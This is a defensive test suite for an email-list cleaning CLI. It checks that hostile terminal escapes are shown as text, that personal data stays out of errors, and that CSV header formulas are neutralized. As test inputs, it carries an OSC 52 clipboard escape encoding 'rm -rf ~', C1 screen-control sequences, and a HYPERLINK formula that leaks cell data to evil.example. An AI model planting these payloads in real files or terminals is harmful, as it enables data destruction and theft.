/**
 * Issue 18, items 10-13: what the CLI prints and records. Terminal escapes planted in files, names
 * and addresses must reach the terminal as visible text; errors and the history name positions and
 * column names, never a subscriber's cells; the report's header row is formula-neutralized; an
 * over-long line on `check -` is a verdict, in bounded memory. The built CLI is spawned as users run it.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv, runCli, tempDirEach, type CliOptions } from '../support/spawn.js';
import { plantFile, useDropDir } from './attacker.js';

let dir: string;
tempDirEach((d) => (dir = d));
let drop: string;
useDropDir((d) => (drop = d));

const HANG: CliOptions = { killAfterMs: 30_000 };
/** What a terminal acts on: C0 controls but the line break, DEL, C1 controls (incl. U+009B CSI, U+009D OSC). */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/u;
/** An OSC 52 clipboard write and a CSI "clear screen", as a hostile file would carry them. */
const OSC52 = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const C1 = '\u009b2J\u009d0;pwned\u009c';

describe('terminal escapes are shown, never acted on (item 11)', () => {
  it('the fields of a lock file (another host on a shared filesystem)', async () => {
    const list = join(dir, 'list.csv');
    await writeFile(list, 'email\nann@example.com\n');
    const lock = { pid: 4242, hostname: `${hostname()}-other${OSC52}`, startedAt: `2024-01-01${C1}`, token: 't' };
    await writeFile(join(dir, 'list.clean.csv.lock'), JSON.stringify(lock), { mode: 0o600 });

    const result = await runCli(['clean', list, '--no-dns'], HANG);

    expect(result.code).toBe(5);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    expect(result.stderr).toContain('-other\\u001b]52;c;cm0gLXJmIH4=\\u0007');
    expect(result.stderr).toContain('2024-01-01\\u009b2J\\u009d0;pwned\\u009c');
  });

  it('cache-file keys in warnings, and an input file name', async () => {
    const list = join(drop, `list${OSC52}.csv`);
    await writeFile(list, 'email\nann@example.com\n');
    const cache = join(drop, 'cache.json');
    const domains = { [`evil${OSC52}.com`]: { outcome: 'bad' } };
    plantFile(cache, JSON.stringify({ format: 'listscrub-dns-cache', version: 1, domains, hosts: {} }));

    // --dns 127.0.0.1:9 with a short timeout: DNS is unhealthy (exit 3), but the cache is read first.
    const result = await runCli(['clean', list, '--cache', cache, '--dns', '127.0.0.1:9', '--dns-timeout', '100', '--dns-retries', '0'], HANG);

    expect(result.stderr).toContain('has a malformed entry for domain "evil\\u001b]52;c;cm0gLXJmIH4=\\u0007.com"');
    expect(result.stderr).toContain('rows from '); // the summary line, with the input's name
    expect(result.stderr).toContain('list\\u001b]52;c;cm0gLXJmIH4=\\u0007.csv');
    expect(result.stderr).not.toMatch(RAW_CONTROL);
  });

  it('the history table and its JSON lines', async () => {
    const history = join(drop, 'history.jsonl');
    const entry = {
      time: `2024-05-01T06:00:00Z${OSC52}`,
      exitCode: 0, durationMs: 5, rows: 1, kept: 1, removed: 0,
      statuses: { invalid: `0${C1}` }, reasons: {}, dns: null,
      input: `in${OSC52}.csv`, output: 'out.csv',
    };
    plantFile(history, `${JSON.stringify(entry)}\n`);

    const table = await runCli(['history', history], HANG);
    const json = await runCli(['history', history, '--json'], HANG);

    expect(table.code).toBe(0);
    expect(table.stdout).toContain('2024-05-01T06:00:00Z\\u001b]52;c;cm0gLXJmIH4=\\u0007');
    expect(table.stdout).toContain('0\\u009b2J\\u009d0;pwned\\u009c');
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout)).toEqual(entry); // still the same data, escaped the JSON way
  });

  it('C1 controls (U+009B, U+009D) in addresses given to check, as a table and as JSON', async () => {
    const address = `ann${C1}@example.com`;
    const table = await runCli(['check', '--no-dns', address], HANG);
    const json = await runCli(['check', '--no-dns', '--json', '-'], { input: `${address}\n`, ...HANG });

    expect(table.code).toBe(0);
    expect(table.stdout).toContain('ann\\u009b2J\\u009d0;pwned\\u009c@example.com');
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect((JSON.parse(json.stdout) as { input: string }).input).toBe(address);
  });
});

describe('no personal data in errors or the history (item 12)', () => {
  it('a wrong --column on a headerless file names no cell, on stderr or in the history', async () => {
    const list = join(dir, 'list.csv');
    await writeFile(list, 'Ann Smith,ann.smith@example.com,London\nBob Jones,bob@example.com,Leeds\n');
    const history = join(dir, 'history.jsonl');

    const result = await runCli(['clean', list, '--no-dns', '--column', 'email', '--history', history], HANG);

    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      'listscrub: no column named "email"; the first row holds an address, so the file seems to have no header row (add --no-header, option header: false); it has 3 columns — pass a column name or number with --column (option column)\n',
    );
    const recorded = await readFile(history, 'utf8');
    for (const cell of ['Ann', 'Smith', 'ann.smith', 'London']) {
      expect(result.stderr).not.toContain(cell);
      expect(recorded).not.toContain(cell);
    }
    expect(JSON.parse(recorded)).toMatchObject({ exitCode: 2, error: expect.stringContaining('no column named "email"') });
  });

  it('a real header is still listed by name', async () => {
    const list = join(dir, 'list.csv');
    await writeFile(list, 'name,mail\nAnn Smith,ann@example.com\n');
    const result = await runCli(['clean', list, '--no-dns', '--column', 'email'], HANG);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('the columns are "name", "mail"');
  });
});

describe("the report's header row (item 13)", () => {
  it('is formula-neutralized like every report cell; the cleaned list keeps the header as it was', async () => {
    const list = join(dir, 'list.csv');
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await writeFile(list, `email,"${evil.replace(/"/g, '""')}"\nann@example.com,1\nnot-an-address,2\n`);

    const result = await runCli(['clean', list, '--no-dns', '-q'], HANG);

    expect(result.code).toBe(0);
    const [reportHeader] = parseCsv(await readFile(join(dir, 'list.report.csv'), 'utf8'));
    expect(reportHeader?.at(-1)).toBe(`'${evil}`);
    const [cleanedHeader] = parseCsv(await readFile(join(dir, 'list.clean.csv'), 'utf8'));
    expect(cleanedHeader).toEqual(['email', evil]);
  });
});

describe('check - with an over-long line (item 10)', () => {
  it('a 64 MB line is an invalid verdict giving its length, in a 48 MB heap, and the next line is still checked', async () => {
    const size = 64 * 1024 * 1024;
    const input = Buffer.alloc(size + 17, 'x');
    input.write('\nann@example.com\n', size);

    const result = await runCli(['check', '--no-dns', '--json', '-'], { input, nodeArgs: ['--max-old-space-size=48'], ...HANG });

    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const [long, next] = result.stdout.trimEnd().split('\n').map((line) => JSON.parse(line) as { input: string; status: string; detail: string });
    expect(long?.status).toBe('invalid');
    expect(long?.detail).toBe(`The line is ${size} characters long (only the first 1025 are shown); no email address is longer than 254.`);
    expect(long?.input).toBe('x'.repeat(1025));
    expect(next).toMatchObject({ input: 'ann@example.com', status: 'valid' });
  });
});
